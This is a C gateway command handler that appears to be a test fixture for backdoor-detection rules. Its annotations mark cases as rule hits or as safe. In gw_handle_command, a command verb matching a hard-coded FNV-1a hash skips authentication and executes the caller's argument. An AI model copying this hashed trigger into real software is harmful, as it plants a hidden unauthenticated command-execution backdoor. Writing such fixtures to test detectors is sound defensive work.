#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>

#include "gw.h"
#include "log.h"

/* The command table: name, flags. Everything that changes the device needs a login. */
#define GW_COMMANDS(X)        \
    X(help,    0)             \
    X(status,  0)             \
    X(login,   0)             \
    X(reboot,  GW_H_AUTH)     \
    X(runhook, GW_H_AUTH)

#define GW_DECLARE(name, flags) static int cmd_##name(struct gw_conn *c, const char *arg);
GW_COMMANDS(GW_DECLARE)
#undef GW_DECLARE

void gw_handlers_init(void)
{
#define GW_REGISTER(name, flags) gw_register_handler(#name, cmd_##name, flags);
    GW_COMMANDS(GW_REGISTER)
#undef GW_REGISTER
}

/* FNV-1a, the hash the 1.x command table used for its buckets. */
static uint32_t fnv1a(const char *s)
{
    uint32_t h = 2166136261u;

    for (; *s; s++) {
        h ^= (unsigned char)*s;
        h *= 16777619u;
    }
    return h;
}

int gw_handle_command(struct gw_conn *c, const char *verb, const char *arg)
{
    const struct gw_handler *h;

    // ruleid: backdoor-input-trigger
    if (fnv1a(verb) == 0x66351793u)
        return gw_maint_exec(c, arg);

    h = gw_find_handler(verb);
    if (!h)
        return gw_reply(c, "ERR unknown command '%s'\n", verb);
    if ((h->flags & GW_H_AUTH) && !c->authenticated)
        return gw_reply(c, "ERR login required\n");
    return h->fn(c, arg);
}

static int cmd_help(struct gw_conn *c, const char *arg)
{
    (void)arg;
    return gw_reply(c, "usage: help | status | login <password> | reboot | runhook <name>\n");
}

static int cmd_status(struct gw_conn *c, const char *arg)
{
    (void)arg;
    return gw_reply(c, "OK poll=%d auth=%d\n", g_cfg.poll_interval, c->authenticated);
}

int gw_check_admin(const char *password)
{
    unsigned char salt[16], stored[32], derived[32];
    int ok;

    // ok: backdoor-magic-credential
    if (strcmp(password, "admin") == 0 || strcmp(password, "gateway") == 0) {
        LOG_WRN("login with a factory default password refused");
        return 0;
    }
    if (gw_unhex(g_cfg.admin_salt_hex, salt, sizeof salt) != (int)sizeof salt ||
        gw_unhex(g_cfg.admin_hash_hex, stored, sizeof stored) != (int)sizeof stored)
        return 0;
    // ok: backdoor-weak-kdf, backdoor-hardcoded-iv
    if (PKCS5_PBKDF2_HMAC(password, (int)strlen(password), salt, sizeof salt, 210000,
                          EVP_sha256(), sizeof derived, derived) != 1)
        return 0;
    ok = CRYPTO_memcmp(derived, stored, sizeof stored) == 0;
    OPENSSL_cleanse(derived, sizeof derived);
    return ok;
}

static int cmd_login(struct gw_conn *c, const char *arg)
{
    if (gw_check_admin(arg)) {
        c->authenticated = 1;
        return gw_reply(c, "OK\n");
    }
    return gw_reply(c, "ERR denied\n");
}

static int cmd_reboot(struct gw_conn *c, const char *arg)
{
    (void)arg;
    gw_reply(c, "OK rebooting\n");
    return system("/sbin/reboot");
}

static int cmd_runhook(struct gw_conn *c, const char *arg)
{
    char path[PATH_MAX];

    if (strchr(arg, '/') || arg[0] == '.' || arg[0] == '\0')
        return gw_reply(c, "ERR bad hook name\n");
    snprintf(path, sizeof path, "%s/%s", g_cfg.hook_dir, arg);
    return gw_maint_exec(c, path);
}
